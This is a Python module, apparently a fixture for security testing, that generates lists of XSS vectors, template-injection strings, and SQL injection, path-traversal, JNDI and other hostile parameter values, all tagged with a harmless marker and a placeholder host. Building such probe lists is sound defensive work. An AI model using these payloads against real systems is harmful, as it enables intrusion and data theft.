"""Words that turn into something else where somebody forgot that they are words."""

from __future__ import annotations

MARK = "xs7311"  # stands in every vector, so that a page can be searched for what became of it

_TAGS = "img svg body video audio details input iframe math marquee object embed a form button style link meta base select textarea".split()
_EVENTS = "onload onerror onclick onmouseover onfocus onanimationstart ontoggle onbegin onpointerenter onbeforematch".split()

SCRIPTS = [
    *(f"<{tag} {event}={MARK}() src=x href=x autofocus tabindex=1 open>" for tag in _TAGS for event in _EVENTS),
    *(f"{close}<script>{MARK}()</script>" for close in ("", "'>", '">', "-->", "</title>", "</textarea>", "</style>", "</script>", "]]>", "{{", "${")),
    *(f"{quote} {event}={MARK}() x={quote}" for quote in ("'", '"', "`") for event in _EVENTS),
    *(f"<a href={scheme}{MARK}()>x</a>" for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:", "vbscript:", "data:text/html,", "\x01javascript:")),
    f"<svg><script>{MARK}()</script></svg>",
    f"<svg><a xlink:href=javascript:{MARK}()><text>x",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={MARK}()&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}()>'>",
    f"<img src=x:{MARK} onerror={MARK}()//",
    f"<iframe srcdoc='<script>{MARK}()</script>'>",
    f"<style>@import '//{MARK}.example';*{{background:url(//{MARK}.example)}}</style>",
    f"<link rel=stylesheet href=//{MARK}.example>",
    f"<meta http-equiv=refresh content='0;url=//{MARK}.example'>",
    f"<base href=//{MARK}.example/>",
    f"<form action=//{MARK}.example><button>",
    f"{{{{7901*7907}}}}{MARK}{{% debug %}}${{7901*7907}}<%= 7901*7907 %>#{{7901*7907}}",
    f"[{MARK}](javascript:{MARK}())",
    f"![{MARK}](x\" onerror=\"{MARK}())",
    f"\u202e{MARK}\u202c<script\u2028>{MARK}()</script>",
    f"<scr\0ipt>{MARK}()</scr\0ipt>",
    f"<ｓcript>{MARK}()</ｓcript>",
    f"<div hx-get=//{MARK}.example hx-trigger=load>",
    f"<div data-hx-on:load={MARK}()>",
    f"<x-{MARK} is=script contenteditable autofocus onfocus={MARK}()>",
]  # fmt: skip

# Values of a parameter that break a query, a path, a template or an expression.
BREAKERS = [
    "'", '"', "';--", "' OR '1'='1", "1) OR 1=1--", "%' AND 1=0 UNION SELECT password FROM people_user--", "\\", "%", "_", "%%%", "\x00", "\ud800",
    "../../etc/passwd", "..%2f..%2f", "{{7901*7907}}", "{%debug%}", "${jndi:ldap://x}", "__class__", "__init__.__globals__", "id;sleep(5)", "9**9**9", "1e309",
    "-1", "99999999999999999999", "NaN", "true", "[]", "{}", "null", "a" * 5000, "(a+)+$", "＇", "İ", "\u202e", "2026-02-30", "00000000-0000-0000-0000-000000000000",
]  # fmt: skip
# Those that one store takes and another does not.
BREAKERS_OF_STORES = ["'", "\\", "%", "\x00", "\ud800", "1e309", "-1", "99999999999999999999", "NaN", "a" * 5000, "＇", "2026-02-30"]
